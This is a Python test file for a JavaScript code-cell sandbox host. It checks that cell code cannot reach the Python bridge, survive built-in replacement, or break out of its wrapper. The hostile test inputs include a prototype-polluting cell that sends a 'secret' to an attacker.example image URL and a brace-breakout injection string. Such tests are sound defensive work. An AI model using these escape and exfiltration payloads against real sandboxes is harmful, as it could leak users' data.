"""The bridge between a cell and Python is out of the cell's reach, and replacing built-ins
does not change what it does: on ``codemode-trio serve`` beside host 0.171.0, same cells.

The cells live in ``cells/``: ``replace_builtins.js`` turns some sixty built-ins a bridge
could use (``Function.prototype.call``, ``Array.prototype.push``, ``JSON.parse``,
``Object.defineProperty``, ``Promise.prototype.then``, the array iterator, typed-array
getters, setters on ``Array.prototype[0]``, getters on ``Object.prototype.get``...) into
accessors that throw; ``bridge_calls.js`` then calls every host function that talks to the
host; ``attack_bridge.js`` tries every route to the bridge it knows of.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import trio

import codemode_trio as cm
from codemode_trio.host.runtime import CellOutcome
from codemode_trio.host.v8 import V8CellRuntime
from codemode_trio.protocol.content import RuntimeResponse, TextItem

CELLS = Path(__file__).with_name("cells")
REPLACE_BUILTINS = (CELLS / "replace_builtins.js").read_text()
BRIDGE_CALLS = (CELLS / "bridge_calls.js").read_text()
ATTACK = (CELLS / "attack_bridge.js").read_text()

REMOTE_IMAGE_REFUSED = (
    "Tool call failed: remote image URLs are not supported in tool outputs. "
    "Pass a base64 data URI instead"
)


def echo_tools() -> cm.ToolRegistry:
    tools = cm.ToolRegistry()

    @tools.function(description="Echo the value back")
    async def echo(value: int) -> dict[str, int]:
        return {"echo": value}

    return tools


async def run_on(host: Path, source: str) -> RuntimeResponse:
    with trio.fail_after(60):
        async with cm.open_host_process(host) as conn, conn.open_session(echo_tools()) as session:
            return await session.run(source)


def observed(response: RuntimeResponse) -> tuple[Any, ...]:
    return response.kind, response.content_items, response.error_text


GLOBAL_SCOPE = """
const out = {};
out.names = Object.getOwnPropertyNames(globalThis).sort();
out.symbols = Object.getOwnPropertySymbols(globalThis).map(String);
out.types = ["__codemode", "__codemode_push", "__codemode_sync", "SharedArrayBuffer",
  "Atomics", "console", "WebAssembly"].map((name) => typeof globalThis[name]);
out.bare = typeof __codemode;
out.fromFunction = Function("return typeof __codemode")();
try { out.fromEval = typeof (0, eval)("__codemode"); } catch (e) { out.fromEval = e.name; }
text(JSON.stringify(out));
"""


@pytest.mark.host
async def test_the_global_scope_is_the_real_hosts(
    rust_host_path: Path, serve_host_path: Path
) -> None:
    real = await run_on(rust_host_path, GLOBAL_SCOPE)
    ours = await run_on(serve_host_path, GLOBAL_SCOPE)
    assert observed(ours) == observed(real)
    scope = json.loads(ours.text)
    assert scope["fromFunction"] == "undefined"
    assert scope["fromEval"] == "ReferenceError"


POLLUTED_LOWER_CASE = """
String.prototype.toLowerCase = () => "data:";
image("https://attacker.example/?leak=" + "secret");
"""


@pytest.mark.host
async def test_a_replaced_to_lower_case_does_not_let_a_remote_image_through(
    rust_host_path: Path, serve_host_path: Path
) -> None:
    real = await run_on(rust_host_path, POLLUTED_LOWER_CASE)
    ours = await run_on(serve_host_path, POLLUTED_LOWER_CASE)
    assert observed(ours) == observed(real)
    assert ours.error_text == REMOTE_IMAGE_REFUSED
    assert ours.content_items == ()


@pytest.mark.host
async def test_replaced_built_ins_change_nothing_the_host_functions_do(
    rust_host_path: Path, serve_host_path: Path
) -> None:
    plain = await run_on(serve_host_path, BRIDGE_CALLS)
    assert plain.error_text is None
    assert plain.text.splitlines() == [
        "plain",
        "7",
        REMOTE_IMAGE_REFUSED,
        "7",
        "5",
        "missing",
        "end",
    ]
    replaced = REPLACE_BUILTINS + BRIDGE_CALLS
    ours = await run_on(serve_host_path, replaced)
    real = await run_on(rust_host_path, replaced)
    assert observed(ours) == observed(plain)
    assert observed(real) == observed(plain)


@pytest.mark.host
async def test_no_route_reaches_the_bridge(rust_host_path: Path, serve_host_path: Path) -> None:
    ours = await run_on(serve_host_path, ATTACK)
    real = await run_on(rust_host_path, ATTACK)
    assert ours.error_text is None and real.error_text is None
    found = json.loads(ours.content_items[-1].text)  # type: ignore[union-attr]
    assert found["leaks"] == []
    # Every callback of the cell the real host ran, ours ran too, with the bridge below it.
    real_routes = set(json.loads(real.content_items[-1].text)["routes"])  # type: ignore[union-attr]
    assert real_routes <= set(found["routes"])
    assert {"timer", "proxy get", "store toJSON", "stream callback"} <= real_routes


# ---------------------------------------------------------------- in process, no real host


class Hooks:
    """Answers tools like ``echo_tools`` and keeps the store; records the text output."""

    def __init__(self) -> None:
        self.texts: list[str] = []
        self.data: dict[str, Any] = {}

    def emit(self, item: Any) -> None:
        if isinstance(item, TextItem):
            self.texts.append(item.text)

    def yield_control(self) -> None:
        pass

    def notify(self, text: str) -> None:
        pass

    async def call_tool(self, binding: str, input: Any) -> Any:
        return {"echo": input["value"]}

    def store(self, key: str, value: Any) -> None:
        self.data[key] = value

    def load(self, key: str) -> Any:
        from codemode_trio.host.runtime import MISSING

        return self.data.get(key, MISSING)


async def run_here(source: str) -> tuple[CellOutcome, Hooks]:
    hooks = Hooks()
    with trio.fail_after(30):
        outcome = await V8CellRuntime().run(
            source,
            (cm.ToolDefinition("echo", "Echo the value back"),),
            hooks,
            max_heap_size_bytes=None,
        )
    return outcome, hooks


async def test_the_channel_cannot_be_detached_or_found() -> None:
    # What freed the channel's memory under Python before: detaching the buffer.
    source = """
    let attempt;
    try {
      (0, eval)("__codemode").channel.transfer(8);
      attempt = "detached";
    } catch (e) {
      attempt = e.name;
    }
    text(attempt);
    const found = [];
    for (const name of Object.getOwnPropertyNames(globalThis)) {
      const value = globalThis[name];
      if (value instanceof ArrayBuffer) found.push(name);
    }
    text(JSON.stringify(found));
    text(typeof SharedArrayBuffer);
    const big = "x".repeat(300 * 1024);  // more than one chunk of the channel
    store("big", big);
    text(String(load("big") === big));
    """
    outcome, hooks = await run_here(source)
    assert outcome.error_text is None
    assert hooks.texts == ["ReferenceError", "[]", "undefined", "true"]


async def test_a_stray_brace_cannot_hand_the_prelude_a_value_of_its_choosing() -> None:
    # Closing the wrapper's braces makes the script's value the cell's own, here a string
    # (Python's requests to the prelude are strings): refused, as a module with a stray `}` is.
    breakout = """}}), '["fire", 1]' + (function () { return async function () {"""
    outcome, hooks = await run_here(breakout)
    assert outcome.error_text == "SyntaxError: Unexpected token '}'"
    assert hooks.texts == []
